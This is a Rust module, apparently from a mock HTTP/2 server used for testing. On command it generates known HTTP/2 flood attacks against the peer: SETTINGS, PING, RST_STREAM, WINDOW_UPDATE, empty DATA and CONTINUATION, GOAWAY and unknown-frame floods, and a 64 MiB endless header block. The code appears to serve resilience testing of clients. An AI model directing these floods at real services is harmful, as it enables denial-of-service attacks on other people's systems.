//! Known attacks on HTTP/2: endless frames, generated as fast as the peer reads them, so that they need little memory
//! here.

use dunlin_wire::http2::{ErrorCode, frame};

use crate::apns::Order;
use crate::http2;

/// Maximum number of frames of a flood.
const FRAMES_MAX: u32 = 10_000_000;
/// Frames of an endless header block, 64 MiB in total.
const ENDLESS_FRAMES: u32 = 6_452;
/// Bytes generated at a time.
const STEP_BYTES: usize = 256 << 10;

/// A flood in progress.
#[derive(Debug)]
pub(crate) struct Flood {
    what: FrameFlood,
    left: u32,
    begun: bool,
}

#[derive(Clone, Copy, Debug)]
enum FrameFlood {
    Settings,
    Ping,
    Reset,
    WindowUpdate,
    /// Empty DATA on a stream whose head was sent.
    Data,
    /// A header block in empty CONTINUATION frames.
    Continuation,
    /// A header block with ever more fields.
    EndlessHeaders,
    GoAway,
    /// Frames of an unknown type.
    Unknown,
}

impl Flood {
    /// Returns the flood that `order` asks for, if any.
    pub(crate) fn ordered(order: Order) -> Option<Flood> {
        let (what, frames) = match order {
            Order::FloodSettings { n } => (FrameFlood::Settings, n),
            Order::FloodPing { n } => (FrameFlood::Ping, n),
            Order::FloodReset { n } => (FrameFlood::Reset, n),
            Order::FloodWindowUpdate { n } => (FrameFlood::WindowUpdate, n),
            Order::FloodData { n } => (FrameFlood::Data, n),
            Order::FloodContinuation { n } => (FrameFlood::Continuation, n),
            Order::FloodGoAway { n } => (FrameFlood::GoAway, n),
            Order::FloodUnknown { n } => (FrameFlood::Unknown, n),
            Order::EndlessHeaders => (FrameFlood::EndlessHeaders, ENDLESS_FRAMES),
            _ => return None,
        };
        Some(Flood { what, left: frames.min(FRAMES_MAX), begun: false })
    }

    /// Appends the next frames to the output. Returns false after the last ones.
    pub(crate) fn extend(&mut self, http: &mut http2::Connection) -> bool {
        let stream = http.last_stream().max(1);
        if !std::mem::replace(&mut self.begun, true) {
            // `:status: 200`; END_HEADERS (4) only if no CONTINUATION follows.
            match self.what {
                FrameFlood::Data => raw_frame(http.output(), 1, 4, stream, &[0x88]),
                FrameFlood::Continuation | FrameFlood::EndlessHeaders => {
                    raw_frame(http.output(), 1, 0, stream, &[0x88]);
                }
                _ => {}
            }
        }
        let end = http.output().len() + STEP_BYTES;
        while self.left > 0 && http.output().len() < end {
            self.left -= 1;
            match self.what {
                FrameFlood::Settings => http.send_settings(),
                FrameFlood::Ping => {
                    let payload = u64::from(self.left).to_be_bytes();
                    frame::encode_ping(http.output(), payload, false);
                }
                FrameFlood::Reset => frame::encode_reset(http.output(), stream, ErrorCode::CANCEL),
                FrameFlood::WindowUpdate => frame::encode_window_update(http.output(), 0, 1),
                FrameFlood::Data => frame::encode_data(http.output(), stream, b"", false),
                FrameFlood::Continuation => raw_frame(http.output(), 9, 0, stream, b""),
                FrameFlood::EndlessHeaders => raw_frame(http.output(), 9, 0, stream, &FIELDS),
                FrameFlood::GoAway => {
                    frame::encode_go_away(http.output(), stream, ErrorCode::NO_ERROR, b"");
                }
                FrameFlood::Unknown => raw_frame(http.output(), 0xee, 0, 0, b"what?"),
            }
        }
        self.left > 0
    }
}

/// A hundred literal fields without indexing, each with a name of one byte and a value of a hundred.
const FIELDS: [u8; 10_400] = {
    let mut fields = [b'x'; 10_400];
    let mut at = 0;
    while at < fields.len() {
        fields[at] = 0;
        fields[at + 1] = 1;
        fields[at + 3] = 100;
        at += 104;
    }
    fields
};

/// Encodes a frame as in RFC 9113 §4.1 without checking it.
fn raw_frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    out.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}
